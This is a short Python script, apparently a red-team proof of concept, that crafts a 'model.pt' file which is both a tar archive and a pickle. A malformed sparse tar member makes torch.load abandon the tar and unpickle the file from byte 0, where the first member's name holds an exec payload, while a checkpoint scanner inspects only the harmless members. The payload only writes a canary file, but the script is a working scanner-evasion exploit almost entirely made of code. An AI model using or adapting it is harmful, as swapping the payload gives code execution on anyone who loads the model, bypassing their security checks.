"""A torch pre-0.4 tar that is also a pickle from byte 0.

ckpt sees a valid tar with harmless `storages`/`tensors`/`pickle` members and scans only those.
torch.load opens the tar too, but extracting `storages` (an old-GNU sparse member whose sparse map
claims more bytes than the file holds) raises tarfile.ReadError, a TarError, so torch.load falls
back to unpickling the file from byte 0: the first member's *name* is a protocol-0 pickle that
writes a canary file."""
import pickle
import sys
import tarfile

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/tar_fallback"
out = sys.argv[2] if len(sys.argv) > 2 else "model.pt"

head = b"cbuiltins\nexec\n(V" + f"open({canary!r},'w')".encode() + b"\ntR."
assert len(head) < 100 and b"\0" not in head

def header(name: bytes, size: int, typeflag: bytes = b"0", sparse=None, realsize=None) -> bytes:
    info = tarfile.TarInfo("x")
    info.size = size
    buf = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))[:512]
    buf[0:100] = name.ljust(100, b"\0")
    buf[156:157] = typeflag
    if sparse is not None:
        pos = 386
        for off, num in sparse:
            buf[pos:pos + 12] = b"%011o\0" % off
            buf[pos + 12:pos + 24] = b"%011o\0" % num
            pos += 24
        buf[482] = 0
        buf[483:495] = b"%011o\0" % realsize
    buf[148:156] = b" " * 8
    buf[148:156] = b"%06o\0 " % sum(buf)
    return bytes(buf)

def member(name, data, **kw):
    pad = (-len(data)) % 512
    return header(name, len(data), **kw) + data + b"\0" * pad

storages = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)
tensors = pickle.dumps(0, protocol=2)
obj = pickle.dumps({"weight": 1}, protocol=2)
raw = (member(head, b"")                                   # the pickle torch falls back to
       + member(b"tensors", tensors)
       + member(b"pickle", obj)
       + member(b"storages", storages, typeflag=b"S",
                sparse=[(0, 1 << 20)], realsize=len(storages))  # extraction runs out of data
       + b"\0" * 1024)
open(out, "wb").write(raw)
t = tarfile.open(out, "r:")
print("members:", [m.name[:12] for m in t.getmembers()])
